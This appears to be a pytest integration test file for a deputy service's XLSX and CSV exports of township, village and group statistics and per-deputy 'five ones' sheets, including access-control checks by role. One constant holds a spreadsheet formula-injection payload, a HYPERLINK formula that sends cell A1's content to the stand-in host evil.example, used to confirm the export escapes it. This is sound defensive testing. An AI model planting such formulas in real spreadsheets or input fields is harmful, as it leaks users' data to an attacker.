"""The deputy service's spreadsheets as the office opens them: the figures of a period for the city and every
township, village and group (public, like GET /statistics), and the five ones of the deputies (the office and
station staff; a deputy their own row; nobody else)."""

import csv
import io
import uuid
from contextlib import AsyncExitStack
from datetime import UTC, datetime

import openpyxl
import pytest

from services.deputy.views.exports import FIVE_ONES_COLUMNS, STATISTICS_COLUMNS
from shared.auth import Role
from shared.messaging.catalogue import CaseResolved, DisputeMediated
from shared.sheets_out import XLSX_MEDIA_TYPE
from tests.integration.test_deputy_service import World, case_step
from tests.support import eventually, start_service

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
APRIL = {"date_from": "2026-04-01", "date_to": "2026-04-30"}
YEAR = 2026


@pytest.fixture
async def world(nats_server, databases, keys):
    async with AsyncExitStack() as stack:
        grid = await start_service(stack, "grid", databases.settings("grid", nats_server.url, keys.public))
        deputy = await start_service(stack, "deputy", databases.settings("deputy", nats_server.url, keys.public))
        yield World(grid, deputy, keys, nats_server.url)


def workbook(answer) -> list[list]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX_MEDIA_TYPE
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet.freeze_panes == "A2"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


async def march_in_two_townships(world) -> tuple[dict, dict, dict]:
    """The facts of test_statistics_count_facts_once_at_city_township_and_village_level, and a household."""
    grids = await world.city()
    g1, g2, g3 = grids["T1V1G1"]["id"], grids["T1V1G2"]["id"], grids["T2V1G1"]["id"]
    a = await world.register("D20", home_grid_id=g1)
    b = await world.register("D21", home_grid_id=g3)
    day = datetime(2026, 3, 10, 2, tzinfo=UTC)
    ids = [a["id"], b["id"]]
    await world.publish(
        DisputeMediated(case_id=str(uuid.uuid4()), grid_id=g1, mediator_deputy_ids=ids, agreement_reached=True, at=day),
        case_step(CaseResolved, str(uuid.uuid4()), g3, ids, actor_deputy_id=None, to_status="resolved", at=day),
    )
    me_a, me_b = world.as_deputy(a["id"]), world.as_deputy(b["id"])
    for headers, deputy, body in [
        (me_a, a, {"kind": "suggestion", "grid_id": g2}),
        (me_a, a, {"kind": "reception", "visitors": 12, "grid_id": g1}),
        (me_b, b, {"kind": "reception", "visitors": 8, "grid_id": g3}),
        (me_b, b, {"kind": "livelihood_matter", "grid_id": g3}),
    ]:
        full = {"occurred_at": "2026-03-10T10:00:00+08:00", "summary": body["kind"], **body}
        await world.post(world.deputy, f"/deputies/{deputy['id']}/record", full, headers)
    household = {"household": "李某户", "need": "因病", "starts_on": "2026-01-01", "grid_id": g1}
    await world.post(world.deputy, f"/deputies/{a['id']}/support-pairs", household, me_a)

    async def facts_arrived():
        return len((await world.record(b["id"]))["items"]) == 4

    await eventually(facts_arrived)
    return grids, a, b


async def test_the_figures_of_a_period_by_township_village_and_group(world):
    await march_in_two_townships(world)
    answer = await world.deputy.client.get("/exports/statistics", params={**MARCH, "format": "xlsx"})
    rows = workbook(answer)
    assert "duty-figures_2026-03-01_2026-03-31.xlsx" in answer.headers["content-disposition"]
    assert rows[0] == [column.zh for column in STATISTICS_COLUMNS]
    # level, township, village, group, code, suggestions, disputes, households, livelihood, visitors, resolved
    # a deputy's own "suggestion" entry is not one: only a suggestion the office accepted counts (docs/suggestions.md)
    assert rows[1:] == [
        ["全市", None, None, None, None, 0, 1, 1, 1, 20, 1],
        ["乡镇", "韶山乡", None, None, "T1", 0, 1, 1, 0, 12, 0],
        ["村", "韶山乡", "韶阳村", None, "T1V1", 0, 1, 1, 0, 12, 0],
        ["组", "韶山乡", "韶阳村", "韶阳村第1组", "T1V1G1", 0, 1, 1, 0, 12, 0],
        ["组", "韶山乡", "韶阳村", "韶阳村第2组", "T1V1G2", 0, 0, 0, 0, 0, 0],
        ["乡镇", "银田镇", None, None, "T2", 0, 0, 0, 1, 8, 1],
        ["村", "银田镇", "银田村", None, "T2V1", 0, 0, 0, 1, 8, 1],
        ["组", "银田镇", "银田村", "银田村第1组", "T2V1G1", 0, 0, 0, 1, 8, 1],
    ]
    # the same figures as the screen's (GET /statistics), and in CSV with English headings
    city = (await world.deputy.client.get("/statistics", params=MARCH)).json()["total"]
    assert rows[1][5:] == [city[key] for key in ("suggestions", "disputes_mediated", "households_supported")] + [
        city[key] for key in ("livelihood_matters", "visitors_received", "issues_resolved")
    ]
    text = await world.deputy.client.get(
        "/exports/statistics", params={**MARCH, "format": "csv"}, headers={"Accept-Language": "en-GB,en;q=0.9"}
    )
    assert text.status_code == 200 and text.headers["content-type"].startswith("text/csv")
    assert text.content.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"), newline="")))
    assert parsed[0] == [column.en for column in STATISTICS_COLUMNS]
    assert parsed[1] == ["City", "", "", "", "", "0", "1", "1", "1", "20", "1"]
    assert parsed[4][3] == "韶阳村第1组" and parsed[4][0] == "Group"
    # a period with nothing, and one that ends before it starts
    april = workbook(
        await world.deputy.client.get(
            "/exports/statistics", params={"date_from": "2026-04-01", "date_to": "2026-04-30"}
        )
    )
    assert april[1][5:] == [0, 0, 1, 0, 0, 0]  # the household is still supported
    backwards = await world.deputy.client.get(
        "/exports/statistics", params={"date_from": "2026-04-01", "date_to": "2026-03-01"}
    )
    assert backwards.status_code == 422
    assert (await world.deputy.client.get("/exports/statistics", params={**MARCH, "format": "pdf"})).status_code == 422


async def test_the_five_ones_of_every_deputy_for_the_office_and_staff_and_a_deputy_sees_their_own_row(world):
    grids, a, b = await march_in_two_townships(world)
    body = {
        "code": "D22",
        "name": INJECTION,
        "level": "city",
        "district": "第0102选区",
        "home_grid_id": grids["T2V1G1"]["id"],
    }
    await world.post(world.deputy, "/deputies", body)
    year = {"year": YEAR}
    for headers in (world.office, world.staff):
        rows = workbook(await world.deputy.client.get("/exports/five-ones", params=year, headers=headers))
        assert rows[0] == [column.zh for column in FIVE_ONES_COLUMNS]
        by_code = {row[0]: row for row in rows[1:]}
        assert list(by_code) == ["D20", "D21", "D22"]
        assert by_code["D20"][1:5] == ["代表D20", "乡镇级", "第0101选区", "韶山乡"]
        for deputy in (a, b):  # the counts are the records the deputy's own five ones show
            ones = await world.deputy.client.get(
                f"/deputies/{deputy['id']}/five-ones", params=year, headers=world.office
            )
            shown = [len(item["evidence"]) for item in ones.json()["items"]]
            done = ones.json()["done"]
            assert by_code[deputy["code"]][5:] == [*shown, done, "是" if done == 5 else "否"]
        assert by_code["D20"][5] == 0 and by_code["D20"][7] == 1  # no accepted suggestion; a dispute mediated
        assert by_code["D22"][1] == "'" + INJECTION and by_code["D22"][2] == "市级"
    in_t2 = workbook(
        await world.deputy.client.get(
            "/exports/five-ones", params={**year, "township_id": grids["T2"]["id"]}, headers=world.office
        )
    )
    assert [row[0] for row in in_t2[1:]] == ["D21", "D22"]
    own = workbook(await world.deputy.client.get("/exports/five-ones", params=year, headers=world.as_deputy(a["id"])))
    assert [row[0] for row in own[1:]] == ["D20"]
    strangers = {
        "anonymous": ({}, 401),
        "a villager": (world.keys.headers(Role.villager), 403),
        "finance": (world.keys.headers(Role.finance), 403),
        "an agency officer": (world.keys.headers(Role.agency_officer, organisation="water-bureau"), 403),
        "a deputy account without a deputy": (world.keys.headers(Role.deputy), 403),
    }
    for who, (headers, status) in strangers.items():
        answer = await world.deputy.client.get("/exports/five-ones", params=year, headers=headers)
        assert answer.status_code == status, who
        assert answer.headers["content-type"] == "application/problem+json", who
